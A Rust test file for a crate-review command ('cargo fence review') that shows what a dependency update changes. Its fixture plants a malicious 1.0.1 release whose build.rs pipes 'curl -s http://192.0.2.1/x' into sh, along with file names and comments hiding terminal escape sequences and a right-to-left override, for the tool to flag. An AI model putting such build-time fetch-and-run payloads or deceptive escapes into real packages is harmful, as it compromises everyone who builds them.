//! `review`: a change, as somebody reads it who is to vouch for it.

use insta::assert_snapshot;

use crate::project::Project;
use crate::standing::{Standing, settled};

/// A project that has pad-words 1.0.0 locked; 1.0.1 was published an hour ago, and its build fetches and runs.
fn with_an_update() -> Project {
    let mut project = Project::at("2026-08-22T12:00:00Z", &[("app", "0.1.0", &["pad-words"])]);
    let library = |body: &str| {
        format!(
            "/// Pads a word.\npub fn pad(word: &str) -> String {{\n    {body}\n}}\n\n#[cfg(test)]\nmod tests {{\n    #[test]\n    fn it_pads() {{\n        assert_eq!(super::pad(\"a\").len(), 8);\n    }}\n}}\n"
        )
    };
    let manifest = |version: &str| {
        format!("[package]\nname = \"pad-words\"\nversion = \"{version}\"\nedition = \"2021\"\n")
    };
    let source = |id: &str| format!("{{\n  \"git\": {{\n    \"sha1\": \"{id}\"\n  }}\n}}");
    let files = |version: &str, body: &str| {
        vec![
            ("Cargo.toml", manifest(version)),
            ("src/lib.rs", library(body)),
            ("README.md", format!("# Pad words {version}\n")),
            (".cargo_vcs_info.json", source(&version.replace('.', "a").repeat(8))),
        ]
    };
    project.release("pad-words", "1.0.0", "2024-01-01T12:00:00Z", &files("1.0.0", "format!(\"{word:>8}\")"));
    let mut newer = files("1.0.1", "format!(\"{word:>16}\")");
    newer.push((
        "build.rs",
        "use std::process as p;\n\nfn run(what: &str) {\n    let _ = p::Command::new(\"sh\").args([\"-c\", what]).status();\n}\n\n\
         fn main() {\n    run(\"curl -s http://192.0.2.1/x | sh\");\n}\n"
            .to_owned(),
    ));
    newer.push((
        "src/\u{1b}[2J\u{202e}name.rs",
        "// \u{1b}]0;title\u{7}\u{202e}\u{200b}##[x]\nfn f() {}\n".to_owned(),
    ));
    project.release("pad-words", "1.0.1", "2026-08-22T11:00:00Z", &newer);
    project.lock(&("pad-words", "1.0.0", &[]));
    project
}

#[test]
fn an_update_is_shown_with_its_findings_and_its_code() {
    let project = with_an_update();
    assert_snapshot!("an update", project.run("review pad-words@1.0.1"));
    assert_snapshot!("an update, unfolded", project.run("review pad-words@1.0.1 --all --least high"));
    assert_snapshot!("what is locked", project.run("review pad-words@1.0.0"));
}

#[test]
fn without_a_project_there_is_no_verdict() {
    let mut project = with_an_update();
    project.write("elsewhere/readme.txt", "");
    project.write("old/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    project.write("old/src/lib.rs", "pub fn f() {}\n");
    project.write("new/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.1.0\"\n");
    project.write("new/src/lib.rs", "pub fn f() -> u8 {\n    1\n}\n");
    assert_snapshot!("two folders", project.run("review new --from old"));
    assert_snapshot!("a folder alone", project.run("review old"));
}

#[test]
fn who_asks_says_with_what_it_is_compared() {
    let project = with_an_update();
    let compared = |line: &str| {
        let seen = project.run(line);
        seen.lines().find(|line| line.contains("Compared")).unwrap_or(&seen).trim().to_owned()
    };
    assert_eq!(compared("review pad-words@1.0.1"), "Compared with 1.0.0, which Cargo.lock has");
    assert_eq!(compared("review pad-words@1.0.1 --from 1.0.0"), "Compared with 1.0.0, as you asked");
    assert_eq!(
        compared("review pad-words@1.0.1 --from pad-words@1.0.0"),
        "Compared with pad-words@1.0.0, as you asked"
    );
    assert_snapshot!("no such base", project.run("review pad-words@1.0.1 --from 0.9.0"));
    assert_snapshot!("no such release", project.run("review pad-words@7.0.0"));
}

#[test]
fn colour_comes_only_where_it_is_asked_for() {
    let project = with_an_update();
    let coloured = project.run("review pad-words@1.0.1 --color always");
    assert!(coloured.contains("\u{1b}[35mfn\u{1b}[0m"), "{coloured}");
    assert!(!project.run("review pad-words@1.0.1").contains('\u{1b}'));
}

/// A script in place of a browser, which writes down what it was asked to show.
#[cfg(unix)]
fn browser(standing: &Standing) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt as _;
    standing.cargo.write(
        "browser",
        "#!/bin/sh\necho \"$#: $*\" > \"$0.asked.new\" && mv \"$0.asked.new\" \"$0.asked\"\n",
    );
    let path = standing.cargo.folder().join("browser");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// Expected: the address is printed, the browser is asked for it alone, and the fence has a page there.
#[cfg(unix)]
#[test]
fn in_a_browser_it_is_a_page_of_the_fence_that_stands_here() {
    let mut standing = Standing::before("");
    let served = standing.serve("serve --listen 127.0.0.1:0");
    standing.listen = served.address;
    let browser = browser(&standing);
    let asked = std::path::PathBuf::from(format!("{}.asked", browser.display()));
    let web = |line: &str| {
        let run = standing.run_with(line, |command| {
            command.env("BROWSER", &browser);
        });
        while !asked.exists() {
            std::thread::yield_now();
        }
        let shown =
            std::fs::read_to_string(&asked).unwrap().replace(&served.address.port().to_string(), "[…]");
        std::fs::remove_file(&asked).unwrap();
        format!("{}the browser is asked {shown}", settled(&run.to_string()) + "\n")
    };
    assert_snapshot!(web("review glob@0.3.4 --web"), @"
    $ cargo fence review glob@0.3.4 --web
    http://127.0.0.1:[…]/crates-io/crate/glob/0.3.4/change
    [exit code 0]
    the browser is asked 1: http://127.0.0.1:[…]/crates-io/crate/glob/0.3.4/change
    ");
    assert_snapshot!(web("review glob --web --from glob@0.3.3"), @"
    $ cargo fence review glob --web --from glob@0.3.3
    http://127.0.0.1:[…]/crates-io/crate/glob/0.3.4/change?from=0.3.3
    [exit code 0]
    the browser is asked 1: http://127.0.0.1:[…]/crates-io/crate/glob/0.3.4/change?from=0.3.3
    ");
    let mut page = served.get("/crates-io/crate/glob/0.3.4/change");
    while page.starts_with("HTTP/1.1 202") {
        page = served.get("/crates-io/crate/glob/0.3.4/change");
    }
    assert!(page.starts_with("HTTP/1.1 200 ") && page.contains("What glob 0.3.4 changes"), "{page}");
    let none = standing.run_with("review glob@0.3.4 --web", |command| {
        command.env("BROWSER", "no-such-browser");
    });
    assert_snapshot!(settled(&none.to_string()), @"
    $ cargo fence review glob@0.3.4 --web
    warning: no browser can be started: no-such-browser: No such file or directory (os error 2)
    http://127.0.0.1:[…]/crates-io/crate/glob/0.3.4/change
    [exit code 0]
    ");
}

#[test]
fn what_no_fence_shows_is_no_page() {
    let standing = Standing::before("");
    let told = |line: &str| settled(&standing.run(line).to_string());
    assert_snapshot!(told("review glob@0.3.4 --web"), @"
    $ cargo fence review glob@0.3.4 --web
    error: no fence stands for the policy of [project]
    hint: `cargo fence serve` stands one up here; `cargo fence cargo …` does so for one command
    [exit code 2]
    ");
    assert_snapshot!(told("review ./folder --web"), @r#"
    $ cargo fence review ./folder --web
    error: a fence shows releases of a crate, and "./folder" is none
    hint: a folder or a `.crate` file is read without `--web`
    [exit code 2]
    "#);
    assert_snapshot!(told("review glob@0.3.4 --web --from ./folder"), @r#"
    $ cargo fence review glob@0.3.4 --web --from ./folder
    error: a fence shows releases of a crate, and "./folder" is none
    hint: a folder or a `.crate` file is read without `--web`
    [exit code 2]
    "#);
    assert_snapshot!(told("review glob-0.3.4.crate --web"), @r#"
    $ cargo fence review glob-0.3.4.crate --web
    error: a fence shows releases of a crate, and "glob-0.3.4.crate" is none
    hint: a folder or a `.crate` file is read without `--web`
    [exit code 2]
    "#);
}
